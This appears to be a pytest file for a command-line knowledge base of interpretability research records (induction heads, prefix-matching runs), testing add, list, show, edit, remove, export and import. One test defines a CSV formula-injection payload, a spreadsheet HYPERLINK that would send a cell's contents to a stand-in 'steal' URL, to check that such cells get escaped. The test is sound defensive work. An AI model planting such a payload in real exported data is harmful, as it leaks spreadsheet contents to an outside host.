"""The record commands (add/list/show/edit/remove) as a user types them."""

from __future__ import annotations

import csv
import io
import json

import pytest


@pytest.fixture
def seeded(kb_init):  # type: ignore[no-untyped-def]
    for command in [
        ("source", "add", "olsson2022", "--title", "In-context Learning and Induction Heads", "--year", "2022",
         "--author", "Catherine Olsson", "--author", "Nelson Elhage"),
        ("method", "add", "prefix-matching-score", "--kind", "behavioral", "--name", "Prefix-matching score"),
        ("concept", "add", "induction-head", "--name", "Induction head", "--alias", "induction heads"),
        ("concept", "add", "previous-token-head", "--name", "Previous-token head"),
        ("definition", "add", "induction-head", "--key", "olsson2022", "--kind", "behavioral", "--text", "Scores.",
         "--source", "olsson2022", "--criterion", "prefix-matching-score >= 0.5", "--depends-on", "previous-token-head"),
        ("run", "add", "r1", "--method", "prefix-matching-score", "--subject", "gpt2-small/L5H5", "--value", "0.9",
         "--param", "n=10", "--param", "note=repeated"),
        ("claim", "add", "c1", "--source", "olsson2022", "--concept", "induction-head", "--text", "A head.",
         "--stated-kind", "behavioral", "--evidence", "r1"),
    ]:
        result = kb_init(*command)
        assert result.exit_code == 0, (command, result.stderr)
    return kb_init


def test_list_json_gives_full_records(seeded) -> None:
    rows = json.loads(seeded("definition", "list", "--format", "json").stdout)
    assert rows[0]["ref"] == "induction-head/olsson2022"
    assert rows[0]["criteria"] == [{"method": "prefix-matching-score", "op": ">=", "threshold": 0.5}]


def test_list_csv_has_a_header_and_a_row_per_record(seeded) -> None:
    rows = list(csv.reader(io.StringIO(seeded("source", "list", "--format", "csv").stdout)))
    assert rows == [["key", "year", "title", "authors"],
                    ["olsson2022", "2022", "In-context Learning and Induction Heads", "Catherine Olsson, Nelson Elhage"]]


FORMULA = '=HYPERLINK("https://example.com/steal?"&A1,"click")'


@pytest.mark.parametrize("command", [("concept", "list"), ("definition", "show", "sneaky/d1")], ids=" ".join)
def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(seeded, command) -> None:
    assert seeded("concept", "add", "sneaky", "--name", FORMULA).exit_code == 0
    assert seeded("definition", "add", "sneaky", "--key", "d1", "--kind", "behavioral", "--text", FORMULA).exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(seeded(*command, "--format", "csv").stdout)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_csv_writes_negative_numbers_as_numbers(seeded) -> None:
    assert seeded("run", "add", "r2", "--method", "prefix-matching-score", "--value=-0.5").exit_code == 0
    listed = list(csv.DictReader(io.StringIO(seeded("run", "list", "--format", "csv").stdout)))
    assert [row["value"] for row in listed if row["key"] == "r2"] == ["-0.5"]
    shown = dict(csv.reader(io.StringIO(seeded("run", "show", "r2", "--format", "csv").stdout)))
    assert shown["value"] == "-0.5"


def test_list_table_shows_each_concept(seeded) -> None:
    out = seeded("concept", "list").stdout
    assert "induction-head" in out and "previous-token-head" in out and "behavioral" in out


def test_show_prints_one_record(seeded) -> None:
    record = json.loads(seeded("run", "show", "r1", "--format", "json").stdout)
    assert record["params"] == {"n": 10, "note": "repeated"}


def test_show_of_a_missing_key_exits_2(seeded) -> None:
    result = seeded("concept", "show", "nothing")
    assert result.exit_code == 2
    assert "no concept with key 'nothing'" in result.stderr


def test_add_of_an_existing_key_is_refused(seeded) -> None:
    result = seeded("concept", "add", "induction-head", "--name", "Again")
    assert result.exit_code == 2
    assert "already exists" in result.stderr


def test_add_with_an_unknown_kind_names_the_field_and_writes_nothing(seeded) -> None:
    before = seeded("export").stdout
    result = seeded("definition", "add", "induction-head", "--key", "x", "--kind", "magical", "--text", "t")
    assert result.exit_code == 2
    assert "record 'x', field 'kind'" in result.stderr
    assert seeded("export").stdout == before


def test_add_with_a_dangling_reference_names_it(seeded) -> None:
    result = seeded("run", "add", "r2", "--method", "no-such-method")
    assert result.exit_code == 2
    assert "record 'r2', field 'method': unknown method 'no-such-method'" in result.stderr


def test_malformed_criterion_is_a_usage_error(seeded) -> None:
    result = seeded("definition", "add", "induction-head", "--key", "y", "--kind", "behavioral", "--text", "t",
                    "--criterion", "prefix-matching-score about 0.5")
    assert result.exit_code == 2
    assert "METHOD OP THRESHOLD" in result.stderr


def test_edit_changes_only_the_given_fields(seeded) -> None:
    assert seeded("concept", "edit", "induction-head", "--summary", "Copies.").exit_code == 0
    record = json.loads(seeded("concept", "show", "induction-head", "--format", "json").stdout)
    assert record["summary"] == "Copies." and record["aliases"] == ["induction heads"]
    assert record["definitions"][0]["key"] == "olsson2022"


def test_remove_of_a_referenced_record_is_refused_with_what_depends_on_it(seeded) -> None:
    before = seeded("export").stdout
    result = seeded("method", "remove", "prefix-matching-score")
    assert result.exit_code == 2
    assert "removes run r1" in result.stderr and "nothing was removed" in result.stderr
    assert seeded("export").stdout == before


def test_remove_with_cascade_says_what_went(seeded) -> None:
    result = seeded("method", "remove", "prefix-matching-score", "--cascade")
    assert result.exit_code == 0, result.stderr
    assert "removes run r1" in result.stderr
    assert "claim c1's evidence link to run r1" in result.stderr
    exported = seeded("export").stdout
    assert "prefix-matching-score" not in exported and "key: c1" in exported


def test_remove_of_an_unreferenced_record_needs_no_cascade(seeded) -> None:
    assert seeded("claim", "remove", "c1").exit_code == 0
    assert "key: c1" not in seeded("export").stdout


def test_removing_a_concept_takes_its_definitions(seeded) -> None:
    seeded("claim", "remove", "c1")
    assert seeded("concept", "remove", "induction-head").exit_code == 0
    assert seeded("definition", "list", "--format", "json").stdout.strip() == "[]"


def test_export_json_round_trips_through_import(seeded, tmp_path) -> None:
    exported = seeded("export", "--format", "json", "-o", str(tmp_path / "kb.json"))
    assert exported.exit_code == 0
    assert seeded("import", str(tmp_path / "kb.json")).exit_code == 0


def test_import_dry_run_lists_what_would_change(seeded, tmp_path) -> None:
    path = tmp_path / "new.yaml"
    path.write_text("kb: 1\nconcepts: [{key: whale, name: Whale}]\n")
    result = seeded("import", "--dry-run", str(path))
    assert result.stdout == "+ concept whale\n"
    assert "whale" not in seeded("export").stdout


def test_summary_counts_records_and_findings(seeded) -> None:
    data = json.loads(seeded("summary", "--json").stdout)
    assert data["concepts"] == 2 and data["claims"] == 1 and data["runs"] == 1
    assert data["definitions"] == {"total": 1, "behavioral": 1, "mechanistic": 0, "refuted": 0, "contested": 0}
    assert set(data["findings"]) == {"error", "warning", "info"}
